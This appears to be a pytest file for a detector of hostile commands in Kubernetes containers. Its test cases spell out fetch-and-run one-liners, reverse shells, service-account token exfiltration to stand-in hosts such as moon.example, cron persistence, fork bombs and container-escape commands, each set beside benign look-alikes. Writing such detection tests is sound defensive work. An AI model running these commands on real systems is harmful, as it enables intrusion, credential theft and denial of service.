"""What scripts do is told from what honest ones do that look alike."""

from itertools import product

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aup.api.signature_list import Topic
from aup.signatures.behaviours import ANCHORS, BEHAVIOURS, ENOUGH
from aup.signatures.reading import Reading, read
from aup.signatures.sieve import flat
from aup.workload import Container
from tests.growth import grows_linearly

TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"  # noqa: S105 - where it is


def reading(script: str) -> Reading:
    """A script as a container runs it."""
    return read(Container("regular", "c", "web", {"command": ["sh", "-c", script]}))


def told(topic: Topic, script: str) -> set[tuple[str, str]]:
    """Kind and strength of each evidence, once it is sure that the sieve lets the script pass."""
    read_ = reading(script)
    found = {(one.kind, one.strength) for one in BEHAVIOURS[topic](read_)}
    text = (flat(["sh", "-c", script]) + flat(read_.texts())).lower().decode(errors="replace")
    groups = {group for anchor, group in ANCHORS[topic] if anchor in text}
    assert not found or any(groups.issuperset(each) for each in ENOUGH[topic]), (groups, found)
    return found


MALICIOUS: list[tuple[str, str, str]] = [
    *product(
        [
            "curl -fsSL http://moon.example/i.sh | sh",
            "curl -s moon.example/i.sh | sudo -E bash -",
            "wget -qO- http://moon.example/i.sh | bash -s -- now",
            "(curl -s 203.0.114.9/a.sh || wget -q -O- 203.0.114.9/a.sh) | bash",
            "{ curl -s http://moon.example/a; } | sh",
            "curl https://203.0.114.9/x | sh",
            "curl -s https://pastebin.com/raw/x | sh",
            "curl -s https://x.ngrok.io/x | sh",
            'sh -c "$(curl -fsSL http://moon.example/i.sh)"',
            'eval "$(wget -qO- http://moon.example/i.sh)"',
            "eval `curl http://moon.example/x`",
            "X=$(curl http://moon.example/x); eval $X",
            "bash <(curl -s http://moon.example/x)",
            ". <(curl -s http://moon.example/x)",
            "curl -s http://moon.example/x | base64 -d | sh",
            "curl -s http://moon.example/x | tee /opt/x | python3 -",
            "c''url http://moon.example/x | s\\h",
            "cd /tmp; wget http://moon.example/a; chmod +x a; ./a -q",
            "curl http://moon.example/a -o /tmp/b && chmod 777 /tmp/b && nohup /tmp/b &",
            "curl -sLo /opt/a.sh http://moon.example/a; sh /opt/a.sh",
            "curl http://moon.example/a > /opt/a.py; python3 /opt/a.py",
            "curl -Lo /dev/shm/.x https://moon.example/x; chmod +x /dev/shm/.x; /dev/shm/.x",
            "python3 -c \"import urllib.request as u; exec(u.urlopen('http://moon.example/x').read())\"",
            "perl -e 'use LWP::Simple; eval get(\"http://moon.example/x\")'",
            "ruby -e \"require 'open-uri'; eval(URI.open('http://moon.example/x').read)\"",
            "echo Y3VybCBodHRwOi8vbW9vbi5leGFtcGxlL3ggfCBzaA== | base64 -d | sh",
        ],
        ["fetched and run"],
        ["strong"],
    ),
    *product(
        [
            "curl -LsSf https://tool.example/install.sh | sh",
            "curl -s $URL | sh",
            'bash -c "$(curl -fsSL https://raw.example.com/install.sh)"',
        ],
        ["fetched and run"],
        ["medium"],
    ),
    *product(
        [
            "nc -e /bin/sh moon.example 4444",
            "ncat --exec /bin/bash moon.example 4444",
            "nc -lvp 4444 -e /bin/sh",
            "busybox nc 203.0.114.9 4444 -e sh",
            "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc moon.example 4444 > /tmp/f",
            "nc -l 4444 | sh",
            "bash -i >& /dev/tcp/203.0.114.9/4444 0>&1",
            "bash -c 'bash -i >& /dev/tcp/203.0.114.9/4444 0>&1'",
            "exec 5<>/dev/tcp/moon.example/4444; sh <&5 >&5 2>&5",
            "socat TCP:moon.example:4444 EXEC:'bash -li',pty,stderr",
            "socat exec:/bin/sh tcp-listen:4444",
            'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("moon.example",1));os.dup2(s.fileno(),0);'
            'pty.spawn("/bin/sh")\'',
            'perl -e \'use Socket;connect(S,1);open(STDIN,">&S");exec("/bin/sh -i");\'',
            'php -r \'$s=fsockopen("moon.example",1);exec("/bin/sh -i <&3 >&3 2>&3");\'',
        ],
        ["remote shell"],
        ["strong"],
    ),
    ("(id; hostname; env) | nc moon.example 4444", "information sent", "strong"),
    ('echo "$(whoami) $(uname -a)" | nc -w 3 moon.example 4444', "information sent", "strong"),
    ("(id; hostname) | nc listener.other.svc.cluster.local 4444", "information sent", "medium"),
    *product(
        [
            f"curl -d @{TOKEN} https://moon.example/",
            f'curl -X POST -d "$(cat {TOKEN})" https://moon.example/',
            f"curl https://moon.example/?t=$(cat {TOKEN})",
            f"T=$(cat {TOKEN}); curl -d t=$T https://moon.example/",
            f'T="$(cat {TOKEN})"; wget --post-data "t=$T" https://moon.example/',
            f"cat {TOKEN} | base64 | nc moon.example 80",
            f"cp {TOKEN} /tmp/t0; curl -F f=@/tmp/t0 https://moon.example/",
            "kubectl get secrets -A -o yaml | curl -d @- https://moon.example/",
            f'S=$(curl -H "Authorization: Bearer $(cat {TOKEN})" https://kubernetes.default/api/v1/secrets); '
            'curl -d "$S" https://moon.example/',
        ],
        ["secrets sent"],
        ["strong"],
    ),
    (f"cat {TOKEN} > /tmp/t", "token copied", "medium"),
    ("env > /tmp/e", "environment dumped", "medium"),
    ("curl -d x=1 https://webhook.site/1", "request bin", "strong"),
    ("curl https://a.oast.fun/", "request bin", "medium"),
    ("curl -d @/etc/hosts https://x.ngrok.io", "tunnel", "medium"),
    ("apk add openssh-server && /usr/sbin/sshd", "remote access", "medium"),
    ("mkdir ~/.ssh; cp /k ~/.ssh/authorized_keys; service ssh start", "remote keys", "medium"),
    ("curl http://192.0.2.1/k > ~/.ssh/authorized_keys; service ssh start", "remote keys", "medium"),
    ("curl http://moon.example/a.tgz | tar xz -C /tmp; /tmp/a", "fetched and run", "medium"),
    ("cd /tmp; wget http://moon.example/a; chmod +x *; ./a", "fetched and run", "strong"),
    ("curl -s http://get.docker.com | sh", "fetched and run", "medium"),
    ("mkfifo /p; sh -i </p 2>&1 | openssl s_client -quiet -connect moon.example:443 >/p", "remote shell", "strong"),
    ("exec 3<>/dev/tcp/moon.example/80; cat <&3 | sh", "remote shell", "strong"),
    (f"nc moon.example 99 < {TOKEN}", "secrets sent", "strong"),
    (
        f'python -c \'import requests; requests.post("https://moon.example", data=open("{TOKEN}").read())\'',
        "secrets sent",
        "strong",
    ),
    ("exec 5<>/dev/tcp/moon.example/443; while read l <&5; do $l 2>&5 >&5; done", "remote shell", "strong"),
    ("echo $X | base64 -d | bash", "hidden code", "medium"),
    ('eval "$(echo $X | base64 -d)"', "hidden code", "medium"),
    ("python -c \"exec(__import__('base64').b64decode('$X'))\"", "hidden code", "medium"),
    ("pkill -9 xmrig; killall kinsing", "rivals killed", "medium"),
    ("ps aux | grep kdevtmpfsi | awk '{print $2}' | xargs kill; pkill xmrig", "rivals killed", "medium"),
    ('(crontab -l; echo "* * * * * curl http://moon.example/x | sh") | crontab -', "made to last", "medium"),
    ("echo '* * * * * root wget -qO- http://moon.example/x | sh' > /etc/cron.d/x", "made to last", "medium"),
]


@pytest.mark.parametrize(("script", "kind", "strength"), MALICIOUS)
def test_malicious_code_is_told(script: str, kind: str, strength: str) -> None:
    """With its kind and strength."""
    assert (kind, strength) in told("malicious_code", script)


@pytest.mark.parametrize(
    "script",
    [
        "curl -f http://localhost:8080/health || exit 1",
        "curl -s http://config.shop.svc.cluster.local/init.sh | sh",
        "curl -s http://config:8080/init.sh | sh",
        "curl -s http://10.0.0.7/init.sh | sh",
        "curl -s http://api.example.com/x | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
        "curl -s http://api.example.com/x | python -m json.tool",
        "curl -s http://api.example.com/x | jq . | tee x; sh -c true",
        "curl -L http://dl.example.com/a.tgz | tar xz; sh run.sh",
        "curl -Lo /usr/local/bin/tool https://dl.example.com/tool; chmod +x /usr/local/bin/tool; tool serve",
        "X=$(curl -s http://api.example.com/x); echo $X",
        'sh -c "echo $(curl -s http://api.example.com/version)"',
        'echo "to install: curl http://moon.example/i.sh | sh"',
        "nc -z db 5432",
        "until nc -zv db.example.com 5432; do sleep 1; done",
        "while true; do echo ok | nc -l -p 8080; done",
        "echo ruok | nc localhost 2181",
        'echo "up.$(hostname):1|c" | nc -u -w1 statsd.example.com 8125',
        "until (echo > /dev/tcp/db/5432) >/dev/null 2>&1; do sleep 1; done",
        "cat < /dev/null > /dev/tcp/db/5432",
        "timeout 1 bash -c '</dev/tcp/db/5432'",
        "bash -c 'cat < /dev/null > /dev/tcp/10.0.0.1/5432'",
        "exec 3<>/dev/tcp/localhost/8080; echo -e 'GET /health' >&3; cat <&3",
        "socat TCP-LISTEN:8080,fork TCP:web:80",
        "python -c \"import socket; socket.create_connection(('db', 5432))\"",
        f'curl -H "Authorization: Bearer $(cat {TOKEN})" https://kubernetes.default.svc/api/v1/pods',
        f'T=$(cat {TOKEN}); curl -X PATCH -d x -H "Authorization: Bearer $T" https://$KUBERNETES_SERVICE_HOST/api',
        f"T=$(cat {TOKEN}); curl -X POST -d '{{\"jwt\": \"'$T'\"}}' http://vault.vault.svc:8200/v1/auth/kubernetes/login",
        f'T=$(cat {TOKEN}); curl -H "X: $T" https://kubernetes.default.svc/; curl -d text=ok https://hooks.example.com/x',
        "kubectl get secret web -o jsonpath={.data.x} | base64 -d > /etc/web/x",
        "printenv > /etc/environment; cron -f",
        "env > /proc/1/fd/1",
        "env NODE_ENV=production node server.js > /var/log/web.log",
        "env | grep X",
        "/usr/sbin/sshd -De",
        'echo "$KEY" >> ~/.ssh/authorized_keys; /usr/sbin/sshd -D',
        "curl -L https://dl.example.com/a.tgz | tar xz; ./a serve",
        "apk add openssh-client && ssh git@example.com",
        "echo $CERT | base64 -d > /etc/cert.pem; sh run.sh",
        "pkill -HUP nginx",
        "killall -q xmrig",
        "echo '0 3 * * * root /backup.sh' > /etc/cron.d/backup",
        "crontab /etc/jobs; crond -f",
        "grep -q 'curl http://moon.example/x | sh' /var/log/audit && exit 1",
    ],
)
def test_honest_scripts_are_no_malicious_code(script: str) -> None:
    """Health checks, wait loops, installers of packages, and calls of Kubernetes."""
    assert told("malicious_code", script) == set()


@pytest.mark.parametrize(
    ("script", "kind", "strength"),
    [
        (":(){ :|:& };:", "fork bomb", "strong"),
        ("bomb() { bomb | bomb & }; bomb", "fork bomb", "strong"),
        ("tail /dev/zero", "memory", "strong"),
        ("cat /dev/zero | tail", "memory", "strong"),
        ("sha256sum /dev/zero &", "processor", "medium"),
        ("dd if=/dev/zero of=/dev/null", "processor", "medium"),
        ("dd if=/dev/urandom of=/data/x bs=1M", "disk", "medium"),
        ("fallocate -l 500G /data/x", "disk", "medium"),
        ("for i in 1 2 3 4; do yes > /dev/null & done", "processor", "medium"),
        ("cat /dev/urandom > /data/x", "processor", "medium"),
    ],
)
def test_using_a_machine_up_is_told(script: str, kind: str, strength: str) -> None:
    """Processes, memory, time and disk."""
    assert (kind, strength) in told("denial_of_service", script)


@pytest.mark.parametrize(
    "script",
    [
        "dd if=/dev/zero of=/swap bs=1M count=1024",
        "head -c 1M /dev/urandom > /data/key",
        "cat /dev/urandom | tr -dc a-z | head -c 32",
        "tr -dc a-z < /dev/urandom | fold -w 32 | head -n 1",
        "tail -f /dev/null",
        "yes | apt-get install x",
        "fallocate -l 2G /swap",
        "f() { g | h & }; f",
    ],
)
def test_what_ends_uses_nothing_up(script: str) -> None:
    """Keys, swap files, and a shell's functions."""
    assert told("denial_of_service", script) == set()


@pytest.mark.parametrize(
    ("script", "kind", "strength"),
    [
        ("nsenter -t 1 -m -u -i -n sh", "machine entered", "medium"),
        ("nsenter --target=1 --mount -- bash", "machine entered", "medium"),
        ("nsenter --mount=/proc/1/ns/mnt -- bash", "machine entered", "medium"),
        ("chroot /host sh -c id", "machine entered", "medium"),
        ("exec chroot /mnt/host bash", "machine entered", "medium"),
        ("echo /x > /tmp/c/release_agent", "control groups", "strong"),
        ("echo 1 > /sys/fs/cgroup/x/notify_on_release", "control groups", "strong"),
        ("d=$(dirname $(ls /x/*)); echo 1 >$d/w/notify_on_release", "control groups", "strong"),
        ("echo '|/x' > /proc/sys/kernel/core_pattern", "core pattern", "strong"),
        ("sysctl -w 'kernel.core_pattern=|/x'", "core pattern", "strong"),
        ("cat /proc/1/root/etc/shadow", "machine's files", "strong"),
        ("insmod x.ko", "kernel module", "strong"),
        ("modprobe x", "kernel module", "medium"),
        ("mount /dev/sda1 /x", "disk", "strong"),
        ("debugfs /dev/nvme0n1p1", "disk", "strong"),
        ("fdisk -l", "disk", "medium"),
        ("docker -H unix:///var/run/docker.sock run --privileged alpine", "container engine", "strong"),
        ("docker -H unix:///host/docker.sock run -v /:/h alpine", "container engine", "strong"),
        ("crictl exec x sh", "container engine", "medium"),
        ("curl --unix-socket /var/run/docker.sock -X POST http://x/containers/create", "container engine", "strong"),
        ("kubectl --kubeconfig /host/etc/kubernetes/admin.conf get pods", "machine's credentials", "strong"),
        ("echo 1 > /proc/sys/kernel/sysrq", "kernel setting", "medium"),
    ],
)
def test_ways_out_of_a_container_are_told(script: str, kind: str, strength: str) -> None:
    """Namespaces, file systems, kernel, disks, engines and credentials of the machine."""
    assert (kind, strength) in told("container_escape", script)


@pytest.mark.parametrize(
    "script",
    [
        "chroot /srv/jail /bin/web",
        "mount -t tmpfs tmpfs /x",
        "docker build .",
        "docker run alpine",
        "sysctl -w net.core.somaxconn=1024",
        "nsenter --help",
        "kubectl get pods",
        "cat /proc/1/status",
        "echo hi > /proc/1/fd/1",
    ],
)
def test_a_container_may_stay_in_itself(script: str) -> None:
    """Jails, mounts and builds of its own."""
    assert told("container_escape", script) == set()


@given(st.text(max_size=120), st.sampled_from([script for script, _, _ in MALICIOUS]), st.integers(0, 100))
def test_no_text_breaks_the_search(text: str, script: str, at: int) -> None:
    """Whatever is mixed into a script."""
    for topic in BEHAVIOURS:
        told(topic, script[:at] + text + script[at:])


@pytest.mark.parametrize(
    "line", ["curl -s $(echo x) | sh\n", "curl http://a.example/x | ", "echo $(cat /x | nc a 1) | ", "a|"]
)
def test_the_search_grows_with_the_text_alone(line: str) -> None:
    """Four times as much of the same takes about four times as long, and not sixteen."""
    texts = {size: reading(line * (size // len(line))) for size in (8_000, 32_000)}

    def search(size: int) -> None:
        for behaviour in BEHAVIOURS.values():
            list(behaviour(texts[size]))

    assert grows_linearly(search, 8_000)
